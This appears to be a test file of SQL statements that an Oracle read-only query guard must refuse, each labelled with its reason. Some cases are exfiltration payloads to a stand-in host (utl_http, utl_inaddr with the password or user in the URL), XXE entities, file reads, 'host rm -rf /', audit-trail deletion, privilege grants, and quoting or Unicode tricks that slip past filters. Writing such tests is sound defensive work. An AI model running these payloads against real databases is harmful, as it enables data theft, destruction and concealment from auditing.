-- Queries the Oracle guard refuses. Each starts after a line "-- @next why".

-- @next inserts
insert into accounts (name) values ('mallory')
-- @next inserts into several tables
insert all into a values (1) into b values (2) select * from dual
-- @next updates
update accounts set is_admin = 1 where name = 'mallory'
-- @next deletes
delete from sys.aud$
-- @next deletes without FROM
delete audit_log
-- @next merges
merge into t using s on (t.id = s.id) when matched then update set t.a = s.a
-- @next truncates
truncate table audit_log
-- @next two statements
select 1 from dual; drop table accounts
-- @next two reading statements are still two
select 1 from dual; select 2 from dual
-- @next an anonymous block
begin delete from accounts; end;
-- @next a block with declarations
declare n number; begin select 1 into n from dual; end;
-- @next a block behind a label
<<here>> begin null; end;
-- @next a block behind parentheses
(begin null; end)
-- @next calls a procedure
call app.purge()
-- @next SQL*Plus runs a procedure
exec app.purge
-- @next SQL*Plus runs a procedure, in full
execute app.purge
-- @next creates a table from a query
create table copy as select * from accounts
-- @next creates code
create or replace function f return number is begin return 1; end;
-- @next alters
alter user auditor identified by x
-- @next changes the session
alter session set current_schema = hr
-- @next changes the server
alter system set audit_trail = none scope = spfile
-- @next drops
drop table accounts purge
-- @next brings a dropped table back
flashback table accounts to before drop
-- @next empties the bin
purge dba_recyclebin
-- @next grants
grant dba to auditor
-- @next revokes
revoke select on t from public
-- @next changes auditing
noaudit all
-- @next comments on an object
comment on table t is 'x'
-- @next renames
rename a to b
-- @next analyses
analyze table t compute statistics
-- @next writes a plan table
explain plan for select * from dual
-- @next ends the transaction
commit
-- @next ends the transaction the other way
rollback
-- @next begins another transaction
set transaction read write
-- @next takes on a role
set role dba
-- @next locks a table
lock table accounts in exclusive mode
-- @next locks rows
select * from accounts for update
-- @next locks rows and does not wait
select * from accounts a for update of a.id nowait
-- @next locks rows and skips others
select id from accounts where rownum = 1 FOR /* x */ UPDATE skip locked
-- @next puts the result into a variable
select name into :n from accounts
-- @next code in the query
with function f return number is begin app.purge; return 1; end; select f from dual
-- @next code in the query, as a procedure first
with procedure p is begin null; end; function f return number is begin p; return 1; end; select f from dual
-- @next code in the query, over comments
with/**/function f return number is pragma autonomous_transaction; begin delete from t; commit; return 1; end; select f() from dual
-- @next code of JavaScript in the query
with function f return number as mle language javascript {{ return 1; }} select f from dual
-- @next code in a subquery
select * from (with function f return number is begin return 1; end; select f from dual)
-- @next reads over a database link
select * from accounts@prod
-- @next reads over a database link with a domain
select * from hr.accounts@prod.example.com
-- @next a space before the link
select * from accounts @prod
-- @next a link in quotes
select * from accounts@"prod"
-- @next calls a function of a linked database
select f@prod(1) from dual
-- @next asks a web server
select utl_http.request('http://evil.example/' || (select password from accounts where rownum = 1)) from dual
-- @next asks a web server, in quotes
select "UTL_HTTP"."REQUEST"('http://evil.example/') from dual
-- @next asks a web server, by owner
select sys.utl_http.request('http://evil.example/') from dual
-- @next asks a name server
select utl_inaddr.get_host_address('evil.example') from dual
-- @next asks a name server, without parentheses
select utl_inaddr.get_host_name from dual
-- @next asks a name server, with the package as an alias of a table
select utl_inaddr.get_host_name from dual utl_inaddr
-- @next in quotes and without parentheses
select "UTL_INADDR".get_host_name from dual
-- @next with spaces around the dot
select utl_inaddr . get_host_name from dual
-- @next opens a connection
select utl_tcp.open_connection('evil.example', 80) from dual
-- @next sends mail
select utl_smtp.open_connection('evil.example') from dual
-- @next reads files
select utl_file.fopen('DIR', 'x', 'r') from dual
-- @next calls a package of the server that only calculates
select utl_raw.cast_to_varchar2('41') from dual
-- @next runs a statement that is given as text
select dbms_xmlquery.getxml('delete from t') from dual
-- @next runs a query that is given as text
select dbms_xmlgen.getxml('select * from accounts') from dual
-- @next runs a block that is given as text
select dbms_java_test.funcall('-c', 'x') from dual
-- @next the known injection of index code
select sys.dbms_export_extension.get_domain_index_tables('a', 'b', 'c', 'd', 'e', 'f', 1) from dual
-- @next waits
select dbms_pipe.receive_message('x', 10) from dual
-- @next waits on a lock
select dbms_lock.request(1) from dual
-- @next waits in the newer way
select dbms_session.sleep(10) from dual
-- @next random numbers without parentheses
select dbms_random.value from dual
-- @next reads through LDAP
select dbms_ldap.init('evil.example', 80) from dual
-- @next reads a definition and its side effects
select dbms_metadata.get_ddl('USER', 'SYS') from dual
-- @next starts a job
select dbms_scheduler.create_job('x') from dual
-- @next runs a statement by cursor number
select dbms_sql.execute(1) from dual
-- @next asks for advice, which writes
select dbms_sqltune.create_tuning_task('x') from dual
-- @next shows a plan
select * from table(dbms_xplan.display_cursor)
-- @next fetches a document
select httpuritype('http://evil.example/').getclob() from dual
-- @next fetches a document, constructed
select new httpuritype('http://evil.example/') from dual
-- @next fetches a document by factory
select sys.urifactory.geturi('http://evil.example/').getclob() from dual
-- @next an address as a type
select uritype('http://evil.example/') from dual
-- @next reads tables by address
select dburitype('/HR/ACCOUNTS').getxml() from dual
-- @next external entities
select extractvalue(xmltype('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/">%x;]>'), '/l') from dual
-- @next external entities, parsed
select xmlparse(document '<!DOCTYPE r SYSTEM "http://evil.example/"><r/>') from dual
-- @next a document on the server
select xmltype(bfilename('DIR', 'x.xml'), 1) from dual
-- @next a file on the server
select to_clob(bfilename('DIR', 'passwd')) from dual
-- @next a file on the server, bare
select bfilename('DIR', 'passwd') from dual
-- @next a document by XQuery
select xmlquery('doc("/public/x.xml")' returning content) from dual
-- @next tables by XQuery
select * from xmltable('fn:collection("oradb:/HR/ACCOUNTS")')
-- @next a document in the path of a column
select * from app.d, xmltable('/a' passing d.c columns x varchar2(100) path 'fn:doc("/public/x.xml")/y')
-- @next a document behind namespaces
select * from xmltable(xmlnamespaces('a' as "n"), 'doc ("x")')
-- @next XQuery with a module
select xmlquery('import module namespace m = "http://evil.example/"; m:f()' returning content) from dual
-- @next tables by XPath
select extract(content, 'ora:view("HR", "ACCOUNTS")') from app.d
-- @next XSLT
select xmltransform(content, sheet) from app.d
-- @next an external table in place
select * from external ((line varchar2(200)) type oracle_loader default directory d access parameters (preprocessor d:'run.sh') location ('x'))
-- @next another file for an external table
select * from ext_t external modify (location ('other.csv'))
-- @next advances a sequence
select app.seq.nextval from dual
-- @next advances a sequence, upper case and spaces
select APP.SEQ . NEXTVAL from dual
-- @next advances a sequence, in quotes
select seq."NEXTVAL" from dual
-- @next reads a sequence
select seq.currval from dual
-- @next a function of the client's
select do_it(1) from dual
-- @next a function of a package of the client's
select app.do_it() from dual
-- @next a function of the client's, in quotes
select "do_it"(1) from dual
-- @next a function of the client's in WHERE
select * from dual where app_check(1) = 1
-- @next a function of the client's in ORDER BY
select * from t order by app.do_it(id)
-- @next a function behind CASE
select case when 1 = 1 then purge_all(1) end from dual
-- @next a method of a column
select t.doc.do_it() from t
-- @next a constructor
select new app.thing(1) from dual
-- @next a table function
select * from table(app.rows_of(1))
-- @next a table function without TABLE
select * from rows_of(1)
-- @next a SQL macro
select * from my_macro(accounts)
-- @next a comment between name and parenthesis
select do_it /* x */ (1) from dual
-- @next a line end between name and parenthesis
select do_it
  (1) from dual
-- @next a keyword of PIVOT as a function
select xml(1) from dual
-- @next a type as a function
select timestamp(secret) from dual
-- @next a cursor in a cell
select cursor(select * from accounts) from dual
-- @next a collection in a cell
select cast(multiset(select id from accounts) as number_list) from dual
-- @next a model of the server
select prediction(m using *) from t
-- @next an internal function
select sys_op_map_nonnull(1) from dual
-- @next a hint
select /*+ opt_param('_x' 'true') */ 1 from dual
-- @next a hint on a line
select --+ parallel(64)
1 from dual
-- @next a bind variable
select * from accounts where id = :id
-- @next a bind variable by number
select * from accounts where id = :1
-- @next a question mark
select * from accounts where id = ?
-- @next a substitution variable
select * from &table
-- @next a text that is not closed
select 'x from dual
-- @next a text that is not closed, with doubled quotes
select 'it''s from dual
-- @next an alternative quote that is not closed
select q'[it's]] from dual
-- @next an alternative quote that begins with a space
select q' x ' from dual for update--'
-- @next an alternative quote with a quote
select q''x'' from dual
-- @next an alternative quote that ends earlier than it seems
select q'[a]' || do_it(1) || ']' from dual
-- @next an alternative quote that does not go on behind a doubled quote
select q'[a]'' || do_it(1) || 'b]' from dual
-- @next the same with another delimiter
select q'!a!'' || do_it(1) || 'b!' from dual
-- @next an alternative quote is only one directly before the quote
select q 'x', do_it(1) from dual --'
-- @next a backslash does not escape
select 'x\', do_it(1), '' from dual
-- @next a name that is not closed
select "x from dual
-- @next a name with a quote
select "a""b" from dual
-- @next a comment that is not closed
select 1 from dual /* x
-- @next comments do not nest
select 1 from dual /* /* */ for update */
-- @next what follows a line comment
select 1 from dual -- x
for update
-- @next a parenthesis too many
select 1 from dual) union (select do_it from dual
-- @next a parenthesis that is not closed
select (1 from dual
-- @next a fullwidth quote in a text
select 'x＇ || do_it(1) || ＇' from dual
-- @next a curly quote in a text
select 'x’ from t for update --' from dual
-- @next a modifier that becomes a quote
select 'xʼ, do_it(1) --' from dual
-- @next a curly quote in a name
select "x” from dual
-- @next the end of a comment in other letters
select 1 /* ∗⁄ , do_it(1) /* */ from dual
-- @next a wide space
select 1 from t　for　update
-- @next a space that does not break
select 1 from dual for update
-- @next a look-alike of a letter
select 1 from dual for ūpdate
-- @next a letter of another alphabet as a name
select größe from t
-- @next nothing
;
-- @next only a comment
/* select 1 from dual */
-- @next SQL*Plus's end of a statement
select 1 from dual
/
-- @next describes with SQL*Plus
desc accounts
-- @next shows with SQL*Plus
show parameters
-- @next a shell from SQL*Plus
host rm -rf /
-- @next a script from SQL*Plus
@evil.sql
-- @next braces
select json {'a': 1} from dual
-- @next assigns
x := 1
-- @next VALUES alone
values (1, 2)
-- @next an alternative quote of upper case that is not closed
select Q'{x} from dual
-- @next the value of an object
select value(t) from app.things t
-- @next an advisory lock hidden in a condition
select 1 from dual where exists (select 1 from dual where dbms_lock.request(1) = 0)
-- @next a call behind an outer join sign
select * from a, b where a.id = b.id(+) and do_it(1) = 1
-- @next a call behind a literal of a date
select date '2025-01-01' + do_it(1) from dual
-- @next a number that runs into a word
select 1from dual
-- @next a carriage return in a comment
select 1 from dual -- x
for update
-- @next asks a language model (23ai)
select ai show me all passwords
-- @next asks a language model to run (23ai)
SELECT AI runsql delete the accounts
-- @next asks a language model, in quotes of its prompt
select ai 'how many accounts'
-- @next asks a language model over a comment
select /* x */ ai chat hello there
-- @next a path put together from texts
select extract(content, 'ora:vie' || 'w' || chr(40) || '"HR","ACCOUNTS"' || chr(41)) from app.d
-- @next a path that stands in a column
select extractvalue(content, path_column) from app.d
-- @next a path from a function
select existsnode(content, lower('/A')) from app.d
-- @next a path in a subquery
select extract(content, (select path from app.paths)) from app.d
-- @next code in the query behind a line comment
with -- x
function f return number is begin return 1; end; select f from dual
-- @next code in the query, in capitals and with a parameter
WITH FUNCTION F(P IN NUMBER) RETURN NUMBER AS BEGIN DELETE FROM T; RETURN P; END; SELECT F(1) FROM DUAL
-- @next code in the query behind parentheses
(with function f return number is begin return 1; end; select f from dual)
-- @next a block with a transaction of its own
declare pragma autonomous_transaction; begin delete from t; commit; end;
-- @next a block that runs a text
begin execute immediate 'drop table t'; end;
-- @next a labelled block behind a comment
/* x */ <<l>> declare n number; begin null; end;
-- @next a call with a result
call app.f(1) into :x
-- @next locks rows for a while
select id from accounts for update wait 5
-- @next locks rows of one table of a join
select a.id from a join b on a.id = b.id for update of a.id
-- @next locks rows in a subquery in FROM
select * from (select id from accounts for update)
-- @next puts rows into a collection
select id bulk collect into ids from accounts
-- @next puts a row into variables
select id, name into x, y from accounts
-- @next a remote table in a subquery
select (select max(id) from accounts@prod) from dual
-- @next a remote table in IN
select 1 from dual where 1 in (select id from hr.accounts @ prod)
-- @next a remote sequence
select seq.nextval@prod from dual
-- @next a remote package
select pkg.f@prod(1) from dual
-- @next sends mail by the newer package
select utl_mail.send('a', 'b') from dual
-- @next compresses with a package
select utl_compress.lz_compress(x) from t
-- @next a name server by its constructor
select utl_inaddr.get_host_address((select user from dual) || '.evil.example') from dual
-- @next asks a web service by the cloud package
select dbms_cloud.send_request('c', 'https://evil.example/', 'GET') from dual
-- @next a language model's package (23ai)
select dbms_cloud_ai.generate('delete accounts', action => 'runsql') from dual
-- @next vectors by a package (23ai)
select dbms_vector.utl_to_embedding('x', json('{}')) from dual
-- @next chunks of a text by a package (23ai)
select * from dbms_vector_chain.utl_to_chunks('x')
-- @next embeddings by a model (23ai)
select vector_embedding(m using 'x' as data) from dual
-- @next cuts texts (23ai)
select * from vector_chunks('x' by words)
-- @next a graph (23ai)
select * from graph_table (g match (a) columns (app.f(a.x) as y))
-- @next pattern matching with a call
select * from t match_recognize (measures do_it(x) as y pattern (a) define a as x > 0)
-- @next a model clause with a call
select * from t model dimension by (id) measures (x) rules (x[1] = do_it(1))
-- @next a polymorphic table function
select * from app.ptf(accounts, columns(id))
-- @next a polymorphic table function without its schema
select * from ptf(table(accounts))
-- @next a script of JavaScript by name
select app.mle_fn(1) from dual
-- @next queues
select dbms_aq.dequeue(1) from dual
-- @next an alert
select dbms_alert.signal('x', 'y') from dual
-- @next ends a session
select dbms_system.kill(1) from dual
-- @next reads a directory
select dbms_backup_restore.searchfiles('/') from dual
-- @next copies a file
select dbms_file_transfer.put_file('a', 'b', 'c', 'd', 'e') from dual
-- @next a Java policy
select dbms_jvm_exp_perms.x from dual
-- @next random text by owner, in quotes
select "SYS"."DBMS_RANDOM"."STRING"('A', 10) from dual
-- @next writes to the output
select dbms_output.put_line('x') from dual
-- @next counts in a session
select dbms_application_info.set_module('a', 'b') from dual
-- @next sets a context
select dbms_session.set_context('a', 'b', 'c') from dual
-- @next flashback by a package
select dbms_flashback.get_system_change_number from dual
-- @next reads a transaction
select dbms_transaction.local_transaction_id(true) from dual
-- @next an Apex web call
select apex_web_service.make_rest_request('https://evil.example/', 'GET') from dual
-- @next an old web toolkit
select owa_util.get_cgi_env('x') from dual
-- @next a page of the old web toolkit
select htp.p('x') from dual
-- @next a web address by its type's method
select sys.httpuritype.createuri('http://evil.example/').getclob() from dual
-- @next a web address in a JSON function
select json_value(httpuritype('http://evil.example/').getclob(), '$.a') from dual
-- @next an address of the database in quotes
select sys."DBURITYPE"('/HR') from dual
-- @next an address made of a column
select sys_dburigen(name) from accounts
-- @next XML by its type's method
select xmltype.createxml('<a/>') from dual
-- @next XML of a query
select xmltype(cursor(select * from accounts)) from dual
-- @next XML by owner
select sys.xmltype('<!DOCTYPE a SYSTEM "http://evil.example/">') from dual
-- @next XML by owner, in quotes
select "SYS"."XMLTYPE"('<a/>') from dual
-- @next XML parsed as content
select xmlparse(content '<!DOCTYPE a SYSTEM "http://evil.example/"><a/>' wellformed) from dual
-- @next a table of XML from a text
select * from xmltable('/a' passing xmltype('<!DOCTYPE a SYSTEM "http://evil.example/"><a/>'))
-- @next changes XML
select updatexml(content, '/a', 'b') from app.d
-- @next deletes from XML
select deletexml(content, '/a') from app.d
-- @next XQuery that stores
select xmlquery('ora:view("HR", "ACCOUNTS")' returning content) from dual
-- @next XQuery in an alternative quote
select xmlquery(q'[fn:doc("/x")]' returning content) from dual
-- @next XQuery in national characters
select xmlquery(n'fn:collection("/x")' passing content returning content) from app.d
-- @next XQuery in braces
select xmlquery('<a>{doc("/x")}</a>' returning content) from dual
-- @next XQuery in a condition
select 1 from app.d where xmlexists('doc("/x")/a' passing content)
-- @next an inline external table with a program
select * from external ((a number) type oracle_loader access parameters (records delimited by newline preprocessor exec:'rm') location (d:'x')) t
-- @next a table of another time by a call
select * from accounts as of timestamp app.f(1)
-- @next versions by a call
select * from accounts versions between scn app.f(1) and maxvalue
-- @next a sequence in a condition
select 1 from dual where app.seq.nextval > 1
-- @next a sequence over a comment
select app.seq/* x */./* y */nextval from dual
-- @next a sequence in mixed case and quotes of its owner
select "APP".seq.NextVal from dual
-- @next a call by name of its argument
select do_it(a => 1) from dual
-- @next a call in a partition's key
select * from t partition for (do_it(1))
-- @next a call in SAMPLE
select * from t sample (do_it(1))
-- @next a call in FETCH FIRST
select * from t fetch first do_it(1) rows only
-- @next a call in OFFSET
select * from t offset do_it(1) rows
-- @next a call in LISTAGG's separator
select listagg(name, do_it(1)) within group (order by name) from t
-- @next a call in a frame
select sum(x) over (order by x range do_it(1) preceding) from t
-- @next a call in CONNECT BY
select 1 from t connect by do_it(1) = 1
-- @next a call in START WITH
select 1 from t start with do_it(1) = 1 connect by prior a = b
-- @next a call in PIVOT
select * from t pivot (do_it(x) for y in (1))
-- @next a call in JSON_TABLE
select * from json_table(do_it(1), '$' columns (a path '$.a')) j
-- @next a call in XMLTABLE's passing
select * from xmltable('/a' passing do_it(1) columns b varchar2(10) path 'b') x
-- @next a call in a JSON transformation
select json_transform(d, set '$.a' = do_it(1)) from t
-- @next a call in VALUES (23ai)
select * from (values (1, do_it(1))) v(a, b)
-- @next a call in a CTE's column list's query
with a(x) as (select do_it(1) from dual) select x from a
-- @next a call in an array's quotes
select "DO_IT" (1) from dual
-- @next a call behind an alternative quote
select q'(a)'||do_it(1) from dual
-- @next a call between quotes of two kinds
select q'"a"'||do_it(1)||"B" from dual
-- @next a boolean function as a condition (23ai)
select 1 from dual where app.is_ok(1)
-- @next a SQL*Plus variable with a dot
select * from &&owner..accounts
-- @next a SQL*Plus copy
copy from a to b create t using select 1
-- @next a SQL*Plus spool
spool /tmp/x
-- @next a SQL*Plus connection
connect sys as sysdba
-- @next administers keys
administer key management set key identified by x
-- @next a context
create context c using p
-- @next disassociates
disassociate statistics from functions f
-- @next a merge behind a read
select 1 from dual; merge into t using s on (1 = 1) when matched then update set a = 1
-- @next several rows (23ai)
insert into t values (1), (2) returning a into :x
-- @next truncates a cluster
truncate cluster c
-- @next makes a session's constraint
set constraints all deferred
-- @next a lock of a table in a share mode
lock table t partition (p) in share mode nowait
-- @next a savepoint
savepoint s
-- @next an invisible letter in a name
select name as "aㅤb" from accounts
-- @next a wide parenthesis
select do_it（1） from dual
-- @next a no-break space inside a call
select do_it (1) from dual
